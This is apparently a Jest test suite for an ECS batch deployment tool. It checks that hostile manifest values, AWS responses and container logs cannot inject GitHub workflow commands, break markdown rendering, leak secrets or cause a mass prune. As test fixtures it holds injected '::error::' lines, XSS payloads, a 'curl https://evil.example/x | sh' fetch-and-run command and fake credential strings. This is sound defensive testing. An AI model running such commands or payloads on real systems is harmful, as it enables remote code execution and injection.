/**
 * Hostile values from a manifest, from AWS and from a container, through the bundled CLI and
 * actions: no workflow command, no markup, no secret gets out; no mass prune happens unasked.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { RegisterTaskDefinitionCommand, type RegisterTaskDefinitionCommandInput } from '@aws-sdk/client-ecs';
import { CreateScheduleCommand } from '@aws-sdk/client-scheduler';
import MarkdownIt from 'markdown-it';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { release } from '../../src/release/release.ts';
import { expireTaggedPolicy } from '../helpers/lifecycle.ts';
import { fakeAws, type FakeSetup } from '../helpers/aws.ts';
import { MANIFEST } from '../helpers/manifests.ts';
import { joined } from '../helpers/pattern.ts';
import { runAction, runCli, scratchDir } from '../helpers/processes.ts';
import { commandNames, commandsTheRunnerReads } from '../helpers/runner.ts';

let aws: FakeSetup;
let dir: string;
let project: string;

beforeAll(async () => {
  aws = await fakeAws({ region: 'ap-northeast-1', taskTiming: { provisionMs: 30, runMs: 200, stopMs: 20 } });
  aws.fake.createCluster('batch');
});
afterAll(() => aws.stop());
beforeEach(() => {
  // A project of its own per test, and a repository of its own, so no test sees another's deployment.
  project = `h${Math.random().toString(36).slice(2, 8)}`;
  dir = scratchDir({ 'ecs-batch.yml': manifest() });
  aws.fake.tasks.outcome = undefined;
});

function manifest(text = MANIFEST): string {
  return text
    .replace('project: myapp', `project: ${project}`)
    .replace('repository: myapp-batch', `repository: ${project}-batch`);
}

const write = (text: string) => writeFileSync(join(dir, 'ecs-batch.yml'), manifest(text));
const image = (tag = 'v1') => aws.fake.seedImage(`${project}-batch`, tag).uri;
const deploy = (extra: Partial<Parameters<typeof release>[0]> = {}) =>
  release({ manifest: join(dir, 'ecs-batch.yml'), image: image(), dryRun: false, prune: true, ...extra });
const cli = (args: string[], env: Record<string, string> = {}) =>
  runCli(args, { ...aws.fake.env(), GITHUB_ACTIONS: 'true', ...env }, dir);

/** The commands our own code issues; anything else the runner would read came from a value. */
const OUR_COMMANDS = new Set(['group', 'endgroup', 'stop-commands', 'error', 'warning', 'notice', 'add-mask', 'debug']);

function expectNoInjectedCommand(output: string, marker = 'INJECTED'): void {
  const commands = commandsTheRunnerReads(output);
  expect(commandNames(commands).filter((name) => !OUR_COMMANDS.has(name))).toEqual([]);
  expect(commands.filter((c) => c.includes(marker))).toEqual([]);
}

/** A manifest whose values try to issue workflow commands. */
const HOSTILE = MANIFEST.replace(
  '    description: Nightly aggregation\n',
  '    description: "ok\\n::error::INJECTED description\\n##[error]INJECTED old syntax"\n',
)
  .replace(
    '  environment: { APP_ENV: production }\n',
    '  environment: { APP_ENV: "production\\n::set-output name=x::INJECTED", MODE: "  ::warning::INJECTED indented" }\n',
  )
  .replace('    command: [php, artisan, sweep]\n', '    command: [php, "artisan\\n::add-mask::INJECTED", sweep]\n');

describe('no workflow command from a value', () => {
  it('validate, plan and deploy (text and JSON) print no line the runner would read as a command', async () => {
    await deploy();
    write(HOSTILE);
    for (const args of [
      ['validate'],
      ['validate', '--format', 'json'],
      ['plan', '--image', image()],
      ['plan', '--image', image(), '--format', 'json', '--show-values'],
      ['deploy', '--image', image()],
    ]) {
      const r = await cli(args);
      expect([args.join(' '), r.code]).toEqual([args.join(' '), 0]);
      expectNoInjectedCommand(r.stdout);
      expectNoInjectedCommand(r.stderr);
      if (args.includes('json')) expect(() => JSON.parse(r.stdout)).not.toThrow();
    }
  });

  it('an error message that echoes a key or a value cannot issue a command', async () => {
    write(
      MANIFEST.replace('  timezone: Asia/Tokyo\n', '  timezone: "Asia/Tokyo\\n::error::INJECTED tz"\n').replace(
        '  sweep:\n',
        '  "sweep\\n::error::INJECTED key":\n',
      ),
    );
    for (const args of [['validate'], ['plan', '--image', image()], ['iam-policy']]) {
      const r = await cli(args);
      expect(r.code).toBe(1);
      expect(r.stdout + r.stderr).toMatch(/INJECTED/); // said, as text
      expectNoInjectedCommand(r.stdout);
      expectNoInjectedCommand(r.stderr);
    }
  });

  it('the release action prints the plan with no injected command', async () => {
    await deploy();
    write(HOSTILE);
    const r = await runAction(
      'release',
      { image: image(), 'dry-run': 'true', 'pr-comment': 'false' },
      { env: aws.fake.env(), cwd: dir },
    );
    expect(r.outputs.status).toBe('planned');
    expectNoInjectedCommand(r.stdout);
  });

  it("container logs are fenced: the runner reads none of their commands, and the fence's token is unguessable", async () => {
    await deploy();
    const hostileLogs = [
      '::error::INJECTED error',
      '::stop-commands::x',
      '::add-mask::INJECTED',
      'x',
      '::x::',
      '##[error]INJECTED old',
      '  ::warning::INJECTED indented',
      'done',
    ];
    aws.fake.tasks.outcome = () => ({ exitCode: 0, logLines: hostileLogs });
    const action = await runAction(
      'run',
      { job: 'nightly', 'poll-interval': '0.1s' },
      { env: aws.fake.env(), cwd: dir },
    );
    expect(action.code).toBe(0);
    expectNoInjectedCommand(action.stdout);
    expect(commandsTheRunnerReads(action.stdout).filter((c) => /::(x|add-mask)::/.test(c))).toEqual([]);
    expect(action.stdout).toMatch(/done/);

    const text = await cli(['run', 'nightly', '--poll', '0.1']);
    expect(text.code).toBe(0);
    expectNoInjectedCommand(text.stdout);
  });
});

/** The text a person sees once GitHub has rendered the markdown (HTML on, as GitHub allows some). */
function visibleText(markdown: string): { html: string; text: string } {
  const html = new MarkdownIt({ html: true }).render(markdown);
  const text = html
    .replace(/<!--[\s\S]*?(-->|$)/g, '')
    .replace(/<[^>]*>/g, ' ')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&')
    .replace(/\s+/g, ' ');
  return { html, text };
}

describe('the summary and PR comment say what will happen', () => {
  it('links, mentions, references and invisible characters in a value stay inert text', async () => {
    await deploy();
    write(
      MANIFEST.replace(
        '    description: Nightly aggregation\n',
        '    description: "ping @org/oncall, see https://evil.example/login or www.evil.com, fixes #1 \\u202eexe.pdf\\u200b"\n',
      ),
    );
    const r = await runAction(
      'release',
      { image: image(), 'dry-run': 'true', 'pr-comment': 'false' },
      { env: aws.fake.env(), cwd: dir },
    );
    expect(r.outputs.status).toBe('planned');
    // GitHub autolinks like linkify; its mention and reference filters skip code, as linkify does.
    const html = new MarkdownIt({ html: true, linkify: true }).render(r.summary);
    expect(html).not.toMatch(/href="[^"]*evil/);
    expect(html).not.toMatch(/[\u202e\u200b]/);
    const cell = /<code>[^<]*@org\/oncall[^<]*<\/code>/.exec(html);
    expect(cell?.[0]).toMatch(/https:\/\/evil\.example\/login or www\.evil\.com, fixes #1 exe\.pdf/);
  });

  it('an HTML comment in a value hides nothing that follows', async () => {
    await deploy();
    // A description opens an HTML comment; later, a command is swapped and a job is removed.
    write(
      MANIFEST.replace(
        '    description: Nightly aggregation\n',
        '    description: "ok <!-- [x](javascript:alert(1)) **b** <img src=x onerror=alert(1)> | `tick`"\n',
      )
        .replace('    command: [php, artisan, sweep]\n', '    command: [sh, -c, "curl https://evil.example/x | sh"]\n')
        .replace(/ {2}legacy:\n(?: {4}.*\n)+/, ''),
    );
    const r = await runAction(
      'release',
      { image: image(), 'dry-run': 'true', 'pr-comment': 'false' },
      { env: aws.fake.env(), cwd: dir },
    );
    expect(r.outputs.status).toBe('planned');
    const { html, text } = visibleText(r.summary);
    expect(html).not.toMatch(/<!--|<img|href="javascript/);
    expect(text).toContain('curl https://evil.example/x | sh');
    expect(text).toContain(`${project}-legacy`);
    expect(text).toMatch(/Pruned/);
    // Shown as text; its `<!--` reads the same but matches no search for a comment marker.
    expect(text).toContain('ok <!\u2010- [x](javascript:alert(1))');
    expect(text).not.toContain('<!--');
    // Every job row is still a row: the pipe and backticks in the value did not break the table.
    expect(html.match(/<tr>/g)).toHaveLength(1 + 3);
  });

  it('the validation summary renders hostile descriptions and messages as text', async () => {
    write(
      MANIFEST.replace('    description: Nightly aggregation\n', '    description: "</td></tr></table><!--"\n').replace(
        '  timezone: Asia/Tokyo\n',
        '  timezone: "<!--"\n',
      ),
    );
    const r = await runAction('validate', {}, { env: aws.fake.env(), cwd: dir });
    expect(r.code).toBe(1);
    const { html, text } = visibleText(r.summary);
    expect(html).not.toMatch(/<!--/);
    expect(text).toMatch(/unknown time zone '<!--'/);
  });
});

describe('status shows what AWS and containers said as text', () => {
  it('a hostile stop reason is neither a command in text nor markup in markdown', async () => {
    await deploy();
    aws.fake.tasks.outcome = () => ({
      failToStart:
        'CannotPullContainerError: x\n::error::INJECTED <!-- hidden **bold** token ghp_abcdefghijklmnopqrstuvwxyz0123456789',
    });
    const r = await cli(['run', 'nightly', '--poll', '0.1']);
    aws.fake.tasks.outcome = undefined;
    expect(r.code).toBe(1);
    expectNoInjectedCommand(r.stdout + r.stderr);
    const text = await cli(['status']);
    expect(text.code).toBe(0);
    expect(text.stdout).toMatch(/never started/);
    expectNoInjectedCommand(text.stdout);
    expect(text.stdout).not.toMatch(/ghp_abcdef/);
    const md = await cli(['status', '--format', 'markdown']);
    const { html } = visibleText(md.stdout);
    expect(html).not.toMatch(/<!--|<strong>bold/);
    expect(md.stdout).not.toMatch(/ghp_abcdef/);
  });
});

describe('pre-flight findings from AWS stay text', () => {
  it("a lifecycle rule's description and a trust policy's conditions are neither commands nor markup", async () => {
    const repo = `${project}-batch`;
    const tmp = aws.fake.seedImage(repo, 'tmp-1');
    aws.fake.state.repositories.get(repo)!.images.find((i) => i.digest === tmp.digest)!.pushedAt -= 5 * 86_400_000;
    aws.fake.state.repositories.get(repo)!.lifecyclePolicy = expireTaggedPolicy(
      'tmp-',
      1,
      'x\n::error::INJECTED <!-- hidden **bold** [link](https://evil.example) @team',
    );
    aws.fake.createRole(`${project}-cond`, {
      Version: '2012-10-17',
      Statement: [
        {
          Effect: 'Allow',
          Principal: { Service: 'ecs-tasks.amazonaws.com' },
          Action: 'sts:AssumeRole',
          Condition: { StringEquals: { 'aws:SourceAccount': '1\n::error::INJECTED <b>x</b>' } },
        },
      ],
    });
    write(MANIFEST.replace('role/task\n', `role/${project}-cond\n`));
    const env = { GITHUB_ACTIONS: 'true' };
    const text = await cli(['plan', '--image', tmp.uri], env);
    expect(text.code).toBe(1);
    expect(text.stdout + text.stderr).toMatch(/lifecycle policy .* expires image/);
    expect(text.stdout + text.stderr).toMatch(/only with conditions/);
    expectNoInjectedCommand(text.stdout + text.stderr);
    const md = await cli(['plan', '--image', tmp.uri, '--format', 'markdown'], env);
    // The first line is our own comment marker (the sticky comment's).
    const { html } = visibleText(md.stdout.slice(md.stdout.indexOf('\n') + 1));
    expect(html).toMatch(/expires image/);
    expect(html).not.toMatch(/<!--|<strong>bold|evil\.example"|<b>x/);
  });
});

describe('no secret in a plan', () => {
  /** The live revision of a family with what someone added in the console. */
  const consoleDefinition = (
    family: string,
    environment: { name: string; value: string }[],
    command: string[],
  ): RegisterTaskDefinitionCommandInput => {
    const live = structuredClone(
      aws.fake.state.taskDefinitions.get(family)!.at(-1)!.body,
    ) as unknown as RegisterTaskDefinitionCommandInput;
    const container = live.containerDefinitions![0]!;
    container.environment = [...(container.environment ?? []), ...environment];
    container.command = command;
    return { ...live, tags: [{ key: 'ecs-batch:project', value: project }] };
  };

  it('values set in the console (the "before" side) and secret-shaped values never print', async () => {
    await deploy();
    // Someone adds credentials in the console: a new revision, the one the plan compares with.
    await aws.clients.ecs.send(
      new RegisterTaskDefinitionCommand(
        consoleDefinition(
          `${project}-nightly`,
          [
            { name: 'DATABASE_URL', value: 'postgres://app:hunter2pw@db:5432/app' },
            { name: 'DB_PASS', value: 'hunter3pw' },
            { name: 'GH_PAT', value: 'ghp_abcdefghijklmnopqrstuvwxyz0123456789' },
          ],
          ['php', 'artisan', 'nightly', '--password=hunter4pw'],
        ),
      ),
    );
    write(
      MANIFEST.replace(
        '  environment: { APP_ENV: production }\n',
        '  environment: { APP_ENV: production, AWS_KEY_ID_COPY: AKIAABCDEFGHIJKLMNOP, NOTE: "token ' +
          'ghp_zyxwvutsrqponmlkjihgfedcba9876543210" }\n',
      ).replace(
        '    command: [php, artisan, sweep]\n',
        '    command: [php, artisan, sweep, --password, hunter5pw, "--db=mysql://u:hunter6pw@h/db"]\n',
      ),
    );
    const secrets = /hunter[2-6]pw|ghp_[a-z0-9]{20}|AKIAABCDEFGHIJKLMNOP|zyxwvutsrq/;
    const outputs: string[] = [];
    for (const format of ['text', 'json']) {
      for (const show of [[], ['--show-values']]) {
        const r = await cli(['plan', '--image', image(), '--format', format, ...show]);
        expect(r.code).toBe(0);
        outputs.push(r.stdout, r.stderr);
      }
    }
    const action = await runAction(
      'release',
      { image: image(), 'dry-run': 'true', 'pr-comment': 'false' },
      { env: aws.fake.env(), cwd: dir },
    );
    outputs.push(action.stdout, action.summary, action.outputs.changes ?? '', action.outputs.summary ?? '');
    for (const out of outputs) expect(out).not.toMatch(secrets);
    // What the reviewer does see: which variables change, and a fingerprint.
    expect(action.summary).toMatch(/environment\[DATABASE_URL\]: removed/);
    expect(action.summary).toMatch(/sha256:[0-9a-f]{8}/);
    expect(outputs.join('\n')).toMatch(/--password","\*\*\*"/);
    // The validator said so, with the line, before any of this.
    const v = await cli(['validate']);
    expect(v.stdout).toMatch(/ecs-batch\.yml:\d+:\d+: warning: AWS_KEY_ID_COPY looks secret/);
    expect(v.stdout).toMatch(/ecs-batch\.yml:\d+:\d+: warning: the value of NOTE looks like a secret/);
  });
});

describe('no silent mass prune', () => {
  const onlyNightly = () => MANIFEST.replace(/ {2}(sweep|monthly|legacy):\n(?: {4}.*\n)+/g, '');

  it('cutting the manifest to one job is refused before any write, with what and how to allow it', async () => {
    await deploy();
    write(onlyNightly());
    aws.fake.calls.reset();
    const r = await cli(['deploy', '--image', image()]);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(
      joined(
        /refused: this deploy would remove 3 job\(s\) \(their schedules or rules, and task definitions\), /,
        /more than half of the 4 jobs it owns: legacy, monthly, sweep/,
      ),
    );
    expect(r.stdout).toMatch(/--max-prune 3/);
    // Headed for what happened, and no deletion listed that will not happen.
    expect(r.stdout).toMatch(/⛔ refused: nothing deployed \(why is below\)/);
    expect(r.stdout).not.toMatch(/^pruned /m);
    expect(aws.fake.calls.writes()).toEqual([]);

    const action = await runAction('release', { image: image() }, { env: aws.fake.env(), cwd: dir });
    expect(action.outputs.status).toBe('refused');
    expect(aws.fake.calls.writes()).toEqual([]);

    const allowed = await cli(['deploy', '--image', image(), '--max-prune', '3']);
    expect(allowed.code).toBe(0);
    expect([...aws.fake.state.schedules.values()].filter((s) => s.groupName === project).map((s) => s.name)).toEqual([
      `${project}-nightly`,
    ]);
  });

  it('--max-prune is a limit: one job more than it allows is refused', async () => {
    await deploy();
    write(MANIFEST.replace(/ {2}(monthly|legacy):\n(?: {4}.*\n)+/g, ''));
    const r = await cli(['plan', '--image', image(), '--max-prune', '1']);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/more than --max-prune 1: legacy, monthly/);
    expect((await cli(['plan', '--image', image()])).code).toBe(0); // 2 of 4 is not more than half
  });

  it('a schedule made by hand inside the group is never ours to delete', async () => {
    await deploy();
    const live = aws.fake.state.schedules.get(`${project}/${project}-nightly`)!;
    await aws.clients.scheduler.send(
      new CreateScheduleCommand({ ...(live.body as object), Name: 'nightly-db-backup', GroupName: project } as never),
    );
    write(MANIFEST.replace(/ {2}legacy:\n(?: {4}.*\n)+/, ''));
    const r = await cli(['deploy', '--image', image()]);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(
      /schedule nightly-db-backup in the group \w+ is not named \w+-<job>: it was not made by ecs-batch and is left alone/,
    );
    expect(aws.fake.state.schedules.has(`${project}/nightly-db-backup`)).toBe(true);
    expect(aws.fake.state.schedules.has(`${project}/${project}-legacy`)).toBe(false);
  });

  it('renaming the project warns that the old schedules still run the same jobs', async () => {
    await deploy();
    const old = project;
    writeFileSync(join(dir, 'ecs-batch.yml'), manifest().replace(`project: ${old}`, `project: ${old}new`));
    const r = await cli(['plan', '--image', image()]);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(
      new RegExp(
        `warning: ecs-batch project ${old} also runs nightly, sweep, monthly|warning: ecs-batch ` +
          `project ${old} also runs monthly, nightly, sweep`,
      ),
    );
    expect(r.stdout).toMatch(/run twice/);
  });
});
